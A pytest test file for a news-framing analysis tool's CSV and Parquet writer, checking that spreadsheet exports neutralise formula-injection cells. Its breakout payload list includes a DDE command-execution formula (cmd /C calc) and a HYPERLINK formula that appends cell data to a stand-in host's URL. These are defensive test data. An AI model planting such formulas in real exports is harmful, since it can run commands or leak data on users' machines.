"""The table writer's rules (framing.output): machine CSV round-trips text exactly; the
spreadsheet CSV (``--excel``) adds a BOM and CRLF and neutralises formula cells.

The spreadsheet rule, as documented in ``framing/output.py`` and ``docs/outputs_guide.md``: a
text cell whose first character is ``= + - @``, a full-width ``＝ ＋ － ＠``, a tab or a carriage
return is prefixed with ``'``; numeric columns are never touched; the machine CSV never is.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from framing import output
from framing.analyze import Config, analyze

EXAMPLES = int(os.environ.get("FRAMING_HYPOTHESIS_EXAMPLES", "10000"))

#: The rule from the issue, written out here so a change in output.py is caught.
PREFIXES = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t", "\r"]

BOM = b"\xef\xbb\xbf"


def parse(text: str) -> pd.DataFrame:
    """Parse CSV text the way :func:`framing.output.read_csv` parses a file."""
    return output.read_csv(io.BytesIO(text.encode("utf-8")))


def spreadsheet_rows(text: str) -> list[list[str]]:
    """Parse CSV text with the standard library reader (RFC 4180, as spreadsheets do)."""
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


# --------------------------------------------------------------------------- the rule


def test_prefix_list_is_the_documented_rule():
    assert list(output.FORMULA_PREFIXES) == PREFIXES


@pytest.mark.parametrize("prefix", [pytest.param(p, id=repr(p)) for p in PREFIXES])
def test_every_formula_prefix_is_neutralised_in_excel_and_kept_raw_in_machine_csv(prefix):
    values = [prefix, f"{prefix}1+1", f"{prefix}HYPERLINK(\"http://x\",\"點我\")", "安全"]
    df = pd.DataFrame({"doc_id": ["a", "b", "c", "d"], "text": values})

    excel = parse(output.csv_text(df, excel=True))
    assert excel["text"].tolist() == ["'" + v for v in values[:3]] + ["安全"]
    assert excel["doc_id"].tolist() == ["a", "b", "c", "d"]

    machine = parse(output.csv_text(df))
    assert machine["text"].tolist() == values


@pytest.mark.parametrize("value", ["a=1", " =1", "1-2", "'=1", "（=）", "中=文", "", "NA"])
def test_cells_not_starting_with_a_prefix_are_left_alone(value):
    df = pd.DataFrame({"text": [value, "x"]})
    assert parse(output.csv_text(df, excel=True))["text"].tolist() == [value, "x"]


def test_numeric_columns_are_never_prefixed():
    df = pd.DataFrame({
        "doc_id": ["a", "b"],
        "n": [-5, 3],
        "score": [-0.25, 1.5],
        "flag": [True, False],
        "text_number": ["-5", "+3"],  # text that looks numeric is still text: neutralised
    })
    text = output.csv_text(df, excel=True)
    rows = spreadsheet_rows(text)
    assert rows == [
        ["doc_id", "n", "score", "flag", "text_number"],
        ["a", "-5", "-0.25", "True", "'-5"],
        ["b", "3", "1.5", "False", "'+3"],
    ]


def test_string_dtype_and_missing_values():
    df = pd.DataFrame({"text": pd.array(["=1", pd.NA, "@a"], dtype="string"),
                       "obj": ["-x", None, 7]})
    rows = spreadsheet_rows(output.csv_text(df, excel=True))
    assert rows == [["text", "obj"], ["'=1", "'-x"], ["", ""], ["'@a", "7"]]
    # The input table is not changed in place.
    assert df["text"].iloc[0] == "=1"


# --------------------------------------------------------------------------- encodings, line ends


def test_excel_csv_has_bom_and_crlf_machine_csv_has_neither(tmp_path):
    df = pd.DataFrame({"outlet": ["JER學家", "雲媒體"], "text": ["人才戰", "=焦慮"]})
    excel = output.write_csv(df, tmp_path / "excel.csv", excel=True).read_bytes()
    machine = output.write_csv(df, tmp_path / "machine.csv").read_bytes()

    assert excel.startswith(BOM)
    assert excel.count(BOM) == 1
    lines = excel[len(BOM):].split(b"\r\n")
    assert lines[-1] == b"" and len(lines) == 4
    assert all(b"\n" not in line and b"\r" not in line for line in lines)
    assert excel.decode("utf-8-sig").startswith("outlet,text\r\n")

    assert not machine.startswith(BOM)
    assert b"\r" not in machine
    assert machine == "outlet,text\nJER學家,人才戰\n雲媒體,=焦慮\n".encode()


def test_write_csv_writes_exactly_csv_text(tmp_path):
    df = pd.DataFrame({"a": ["x,y", "z"], "b": [1.5, -2.0]})
    for excel in (False, True):
        path = output.write_csv(df, tmp_path / f"t{excel}.csv", excel=excel)
        assert path.read_bytes() == output.csv_text(df, excel=excel).encode("utf-8")


# --------------------------------------------------------------------------- breakout payloads

PAYLOADS = [
    'a","=1+1',
    '","=1+1',
    '=1+1","',
    '"=1+1"',
    'a,=1+1',
    'a;=1+1',
    'a\t=1+1',
    'a\n=1+1',
    'a\r\n=1+1',
    '""=1+1',
    '=HYPERLINK("http://example.invalid/?"&A1,"點擊")',
    "=cmd|' /C calc'!A0",
    '\\",=1+1',
    "'=1+1",
]


@pytest.mark.parametrize("excel", [False, True], ids=["machine", "excel"])
def test_breakout_payloads_parse_back_as_one_cell(excel):
    df = pd.DataFrame({"doc_id": [f"d{i}" for i in range(len(PAYLOADS))], "text": PAYLOADS,
                       "n": range(len(PAYLOADS))})
    text = output.csv_text(df, excel=excel)
    want = [output.neutralise_cell(p) if excel else p for p in PAYLOADS]

    for parsed in (parse(text), pd.DataFrame(spreadsheet_rows(text)[1:],
                                             columns=spreadsheet_rows(text)[0])):
        assert parsed.columns.tolist() == ["doc_id", "text", "n"]
        assert parsed.shape == (len(PAYLOADS), 3)
        for i, payload in enumerate(want):
            assert parsed.iloc[i].tolist() == [f"d{i}", payload, str(i)], PAYLOADS[i]
        if excel:  # no parsed cell of a text column can start a formula
            for cell in parsed["text"].tolist() + parsed["doc_id"].tolist():
                assert not cell.startswith(tuple(PREFIXES)), cell


# --------------------------------------------------------------------------- round trip property

# Characters that break naive CSV handling, Chinese text, and values readers like to convert.
TRICKY = "，,\"'\n ;\t=+-@＝＋－＠#中文人才戰祖克柏扎克伯格「」0１9.eE"
SPECIAL_VALUES = ["", "NA", "N/A", "#N/A", "None", "null", "NULL", "nan", "NaN", "-nan", "inf",
                  "TRUE", "False", "007", "0012", "1e5", "-0", "0x1F", " ", "  ", "\t", "\n",
                  "\ufeff", "\u3000", "\u2028"]

PIECES = [*TRICKY, "\r", *SPECIAL_VALUES]


def table_of(data: bytes) -> list[list[str]]:
    """Decode bytes into a table of 1-3 columns and up to 6 rows (one draw per example).

    ``data[0]`` picks the number of columns; then a byte below 32 ends a cell, one below 224
    appends a piece (a tricky character or a special value), and one from 224 up starts a
    code point taken from it and the next two bytes (any code point a UTF-8 file can hold: a
    surrogate becomes U+FFFD). Hypothesis shrinks the bytes, so a failure shrinks to a small
    table. Drawing one byte string instead of nested lists makes an example cheap enough for
    the suite's full budget of examples.
    """
    ncols = 1 + data[0] % 3
    cells, current, i = [], [], 1
    while i < len(data):
        x = data[i]
        if x < 32:
            cells.append("".join(current))
            current = []
        elif x < 224:
            current.append(PIECES[x % len(PIECES)])
        else:
            code = int.from_bytes(bytes([x - 224, *data[i + 1 : i + 3]]).ljust(3, b"\0"))
            code %= 0x110000
            current.append("\ufffd" if 0xD800 <= code < 0xE000 else chr(code))
            i += 2
        i += 1
    cells.append("".join(current))
    cells += [""] * (-len(cells) % ncols)
    return [cells[j : j + ncols] for j in range(0, len(cells), ncols)][:6]


table = st.binary(min_size=1, max_size=48).map(table_of)


def frame_of(rows: list[list[str]]) -> pd.DataFrame:
    return pd.DataFrame(rows, columns=[f"c{i}" for i in range(len(rows[0]))], dtype=object)


@settings(max_examples=EXAMPLES, derandomize=True, deadline=None)
@given(table)
def test_machine_csv_round_trips_any_text_exactly(rows):
    # The file framing writes, read by the standard library's RFC 4180 reader (as R, SPSS and
    # spreadsheets read it): every cell comes back exactly, header first.
    assert spreadsheet_rows(output.csv_text(frame_of(rows))) == [
        [f"c{i}" for i in range(len(rows[0]))], *rows]


# Reading back with pandas and rendering the spreadsheet variant cost about 8 ms an example
# (pandas's per-call overhead), so this companion runs a tenth of the example budget; the
# round trip itself is the property above.
@settings(max_examples=max(EXAMPLES // 10, 20), derandomize=True, deadline=None)
@given(table)
def test_pandas_reads_both_csvs_back_exactly(rows):
    df = frame_of(rows)
    back = parse(output.csv_text(df))
    assert back.columns.tolist() == df.columns.tolist()
    assert back.values.tolist() == rows

    excel = parse(output.csv_text(df, excel=True))
    assert excel.values.tolist() == [[output.neutralise_cell(v) for v in r] for r in rows]
    for r_in, r_out in zip(rows, excel.values.tolist(), strict=True):
        for v_in, v_out in zip(r_in, r_out, strict=True):
            # The apostrophe is the only change, and only where a prefix starts the cell.
            assert v_out == v_in or (v_out == "'" + v_in and v_in.startswith(tuple(PREFIXES)))


def test_lone_carriage_return_round_trips_in_machine_csv():
    df = pd.DataFrame({"a": ["x\ry", "z"], "b": ["1", "2"]})
    assert parse(output.csv_text(df)).values.tolist() == [["x\ry", "1"], ["z", "2"]]


def test_lone_carriage_return_round_trips_in_excel_csv():
    # CRLF line ends make the writer quote any field holding \r, so the spreadsheet CSV is safe.
    df = pd.DataFrame({"a": ["x\ry", "\rz"], "b": ["1", "2"]})
    assert parse(output.csv_text(df, excel=True)).values.tolist() == [["x\ry", "1"],
                                                                      ["'\rz", "2"]]


# --------------------------------------------------------------------------- Parquet


def test_parquet_round_trips_types_and_text(tmp_path):
    pytest.importorskip("pyarrow")
    df = pd.DataFrame({"doc_id": ["a", "b"], "text": ["=人才戰", "007"], "n": [-1, 2],
                       "x": [0.1, float("nan")]})
    path = output.write_parquet(df, tmp_path / "t.parquet")
    back = pd.read_parquet(path)
    pd.testing.assert_frame_equal(back, df)  # raw values: Parquet is not a spreadsheet format


# --------------------------------------------------------------------------- a whole run


def _check_excel_folder(out, tables):
    """Every CSV of a run written with ``excel=True`` has a BOM, CRLF and no live formula."""
    csvs = sorted(out.glob("*.csv"))
    assert {p.stem for p in csvs} == set(tables)
    neutralised = 0
    for path in csvs:
        data = path.read_bytes()
        assert data.startswith(BOM), path.name
        assert data.count(b"\n") == data.count(b"\r\n") or b'"' in data, path.name
        back = output.read_csv(path)
        raw = parse(output.csv_text(tables[path.stem]))
        assert back.columns.tolist() == raw.columns.tolist(), path.name
        assert back.shape == raw.shape, path.name
        df = tables[path.stem]
        for col in back.columns:
            numeric = pd.api.types.is_numeric_dtype(df[col]) or pd.api.types.is_bool_dtype(df[col])
            for got, want in zip(back[col], raw[col], strict=True):
                if numeric:
                    assert got == want
                elif got != want:
                    assert got == "'" + want and want.startswith(tuple(PREFIXES)), (path, col)
                    neutralised += 1
                else:
                    assert not got.startswith(tuple(PREFIXES)), (path.name, col, got)
    return neutralised


def test_analyze_excel_on_the_shipped_corpus_writes_spreadsheet_csvs(tmp_path):
    from conftest import SEED_CORPUS

    result = analyze(SEED_CORPUS, tmp_path / "out", Config(excel=True, figures=False, n_boot=200))
    _check_excel_folder(result.out_dir, result.tables)
    assert result.manifest["config"]["excel"] is True


HOSTILE = {
    "=測試媒體": ("-標題", [
        "=HYPERLINK(\"http://example.invalid\",\"人才\")",
        "＋Meta 開出天價 offer，祖克柏親自下場搶人，矽谷人才戰升溫。",
        "-1 是分數嗎？研究人員擔心創新文化與開源社群受到衝擊。",
        "@扎克伯格 回應了薪酬與股權的質疑，投資人感到焦慮。",
    ]),
    "@另一媒體": ("+標題", [
        "＠OpenAI 的研究員跳槽，算力與數據集中在少數巨頭手中。",
        "＝監管機構關注壟斷，初創公司難以競爭，市場格局改變。",
        "－谷歌與微軟加碼招聘，工程師薪資水漲船高，行業焦慮加劇。",
    ]),
}


@pytest.fixture(scope="module")
def hostile_corpus(tmp_path_factory):
    """Two short articles whose outlets, titles and paragraphs start with formula prefixes."""
    from framing.corpus import add_articles, init_corpus

    base = tmp_path_factory.mktemp("hostile")
    corpus = init_corpus(base / "corpus")
    for i, (outlet, (title, paragraphs)) in enumerate(HOSTILE.items()):
        article = base / f"a{i}.txt"
        article.write_text("\n".join(paragraphs) + "\n", encoding="utf-8")
        add_articles(corpus, [article], outlet=outlet, date=f"2025-07-0{i + 1}", title=title,
                     doc_id=f"doc{i}")
    return corpus


def test_analyze_excel_neutralises_hostile_corpus_text(tmp_path, hostile_corpus):
    result = analyze(hostile_corpus, tmp_path / "out",
                     Config(excel=True, figures=False, n_boot=50))
    assert _check_excel_folder(result.out_dir, result.tables) > 0
    paragraphs = output.read_csv(result.out_dir / "paragraphs.csv")
    assert paragraphs["text"].tolist() == ["'" + t for _, ps in HOSTILE.values() for t in ps]
    articles = output.read_csv(result.out_dir / "articles.csv")
    assert articles["outlet"].tolist() == ["'=測試媒體", "'@另一媒體"]
    assert articles["title"].tolist() == ["'-標題", "'+標題"]

    machine = analyze(hostile_corpus, tmp_path / "machine", Config(figures=False, n_boot=50))
    raw = output.read_csv(machine.out_dir / "articles.csv")
    assert raw["outlet"].tolist() == ["=測試媒體", "@另一媒體"]
    assert not (machine.out_dir / "articles.csv").read_bytes().startswith(BOM)


# --------------------------------------------------------------------------- framing report


def test_report_writes_the_figure_set_with_a_manifest(tmp_path, hostile_corpus, capsys):
    from framing.figureset import write_report

    out = tmp_path / "report"
    paths = write_report(hostile_corpus, out, n_boot=50)
    assert paths[-1] == out / "manifest.json"
    stems = {p.stem for p in paths if p.suffix == ".png"}
    assert {p.stem for p in paths if p.suffix == ".svg"} == stems
    assert {"outlet_frames", "distinctive_terms", "sentiment_arcs"} <= stems
    assert sorted(out.iterdir()) == sorted(paths)
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["framing_report"] == 1
    for name, digest in manifest["files"].items():
        assert hashlib.sha256((out / name).read_bytes()).hexdigest() == digest
    assert manifest["figure_scorer"]["column"].startswith("sentiment_")

    # The command reruns it into the same folder: replaced, byte-identical files.
    before = {p.name: p.read_bytes() for p in paths}
    assert _report_command([str(hostile_corpus), "-o", str(out), "--n-boot", "50"]) == 0
    assert "outlet_frames" in capsys.readouterr().out
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


def _report_command(argv):
    import argparse

    from framing.commands import report

    parser = argparse.ArgumentParser()
    report.register(parser.add_subparsers())
    args = parser.parse_args(["report", *argv])
    return args.func(args)


def test_report_refuses_to_replace_an_analysis_folder(tmp_path, hostile_corpus):
    from framing.errors import FramingError
    from framing.figureset import write_report

    out = tmp_path / "analysis"
    analyze(hostile_corpus, out, Config(figures=False, n_boot=20))
    with pytest.raises(FramingError, match="other framing output"):
        write_report(hostile_corpus, out, n_boot=20)
    assert (out / "paragraphs.csv").exists()
    with pytest.raises(FramingError, match="inside the corpus"):
        write_report(hostile_corpus, hostile_corpus / "figs", n_boot=20)


# --------------------------------------------------------------------------- the fast renderer


def pandas_text(df: pd.DataFrame, excel: bool = False) -> str:
    """The reference: what ``DataFrame.to_csv`` renders, under the module's rules."""
    if excel:
        return "\ufeff" + output._pandas_csv(output.neutralise_formulas(df), excel=True)
    return output._pandas_csv(df, excel=False)


cell_text = st.text(st.sampled_from(list('ab,"\r\n =+\t\x00中') + ["\u2028"]), max_size=6)
floats = st.floats(allow_nan=True, allow_infinity=True)
ints = st.integers(min_value=-(2**63), max_value=2**63 - 1)


@st.composite
def typed_frame(draw) -> pd.DataFrame:
    """Frames with the column types framing writes, missing values included."""
    n = draw(st.integers(min_value=0, max_value=5))
    columns: dict[str, object] = {}
    for i in range(draw(st.integers(min_value=1, max_value=4))):
        kind = draw(st.sampled_from(["text", "str", "float", "int", "small", "bool",
                                     "Int64"]))
        name = f"c{i}" if draw(st.booleans()) else draw(cell_text)
        name = name if name not in columns else f"{name}{i}"
        if kind in ("text", "str"):
            values = draw(st.lists(st.one_of(cell_text, st.none()), min_size=n, max_size=n))
            columns[name] = pd.Series(values, dtype=object if kind == "text" else "str")
        elif kind == "float":
            columns[name] = pd.Series(draw(st.lists(floats, min_size=n, max_size=n)),
                                      dtype="float64")
        elif kind in ("int", "small"):
            values = draw(st.lists(ints if kind == "int" else st.integers(0, 40), min_size=n,
                                   max_size=n))
            columns[name] = pd.Series(values, dtype="int64")
        elif kind == "bool":
            columns[name] = pd.Series(draw(st.lists(st.booleans(), min_size=n, max_size=n)),
                                      dtype=bool)
        else:
            values = draw(st.lists(st.one_of(st.integers(0, 9), st.none()), min_size=n,
                                   max_size=n))
            columns[name] = pd.Series(values, dtype="Int64")
    return pd.DataFrame(columns)


@settings(max_examples=max(EXAMPLES // 10, 50), derandomize=True, deadline=None)
@given(typed_frame(), st.booleans())
def test_fast_renderer_writes_what_pandas_writes(df, excel):
    # The column-wise renderer must give to_csv's bytes exactly: float repr, quoting of
    # delimiters, quotes and line breaks, empty one-column rows, missing values.
    assert output.csv_text(df, excel=excel) == pandas_text(df, excel=excel)


def test_float_cells_are_what_pandas_writes_for_random_bit_patterns():
    # 64-bit floats are written with Python's repr (faster than numpy's astype(str), which
    # pandas uses): the same text for any bits, subnormals, NaN payloads and infinities.
    rng = np.random.default_rng(7)
    bits = rng.integers(0, 2**64, 20000, dtype=np.uint64, endpoint=False)
    values = np.concatenate([bits.view(np.float64), [0.0, -0.0, 1e16, 1e-5, 5e-324,
                                                      np.inf, -np.inf, np.nan]])
    df = pd.DataFrame({"x": values})
    assert output.csv_text(df) == pandas_text(df)
    # other widths keep numpy's text
    small = pd.DataFrame({"x": rng.integers(0, 2**32, 50, dtype=np.uint32).view(np.float32)})
    assert output.csv_text(small) == pandas_text(small)


def test_fast_renderer_covers_the_table_types_and_falls_back_on_others():
    df = pd.DataFrame({"a": ["x", None], "b": [1.5, float("nan")], "c": [True, False],
                       "d": pd.array([1, None], dtype="Int64"), "e": [3, 4]})
    assert output._csv_chunks(df, "\n") is not None
    mixed = pd.DataFrame({"a": ["x", 1]}, dtype=object)  # a number in a text column
    dates = pd.DataFrame({"a": pd.to_datetime(["2024-01-02", None])})
    for other in (mixed, dates):
        assert output._csv_chunks(other, "\n") is None
        assert output.csv_text(other) == pandas_text(other)


def test_fast_renderer_chunks_join_to_the_whole(monkeypatch):
    df = pd.DataFrame({"a": [f"v{i}" if i % 3 else 'q,"' for i in range(10)],
                       "b": range(10)})
    whole = output.csv_text(df)
    monkeypatch.setattr(output, "CHUNK_ROWS", 3)
    assert output.csv_text(df) == whole == pandas_text(df)


@pytest.mark.parametrize("parquet", [False, True])
def test_read_table_of_some_articles_stops_after_the_last(tmp_path, monkeypatch, parquet):
    # The figures of a large corpus's first articles read only the head of frame_scores:
    # the rows of the asked articles come back typed as the whole table's, and a CSV is
    # not read past the last of them (a broken line further down is never reached).
    from framing.analyze import Tables

    df = pd.DataFrame({"doc_id": [f"d{i // 3:02d}" for i in range(30)],
                       "para_id": [i % 3 for i in range(30)],
                       "frame": ["conflict"] * 30, "hits": list(range(30)),
                       "hits_negated": [0] * 30, "weight": [0.5 * i for i in range(30)],
                       "n_tokens": [7] * 30, "density": [0.25] * 30})
    path = tmp_path / ("frame_scores.parquet" if parquet else "frame_scores.csv")
    if parquet:
        df.to_parquet(path, index=False)
    else:
        output.write_csv(df, path)
    want = output.read_table(path, "frame_scores").iloc[:9]
    if not parquet:
        with open(path, "a", encoding="utf-8") as fh:
            fh.write("d99,1,2,3,4,5,6,7,8,9,10,11\n")  # too many fields: unreadable
        monkeypatch.setattr(output, "CHUNK_ROWS", 4)
    got = Tables({}, {"frame_scores": path}).rows_of("frame_scores", ["d00", "d01", "d02"])
    pd.testing.assert_frame_equal(got.reset_index(drop=True), want.reset_index(drop=True))
    if not parquet:
        with pytest.raises(pd.errors.ParserError):
            output.read_table(path, "frame_scores")
    held = Tables({"frame_scores": df}, {}).rows_of("frame_scores", ["d01"])
    assert held["para_id"].tolist() == [0, 1, 2] and set(held["doc_id"]) == {"d01"}
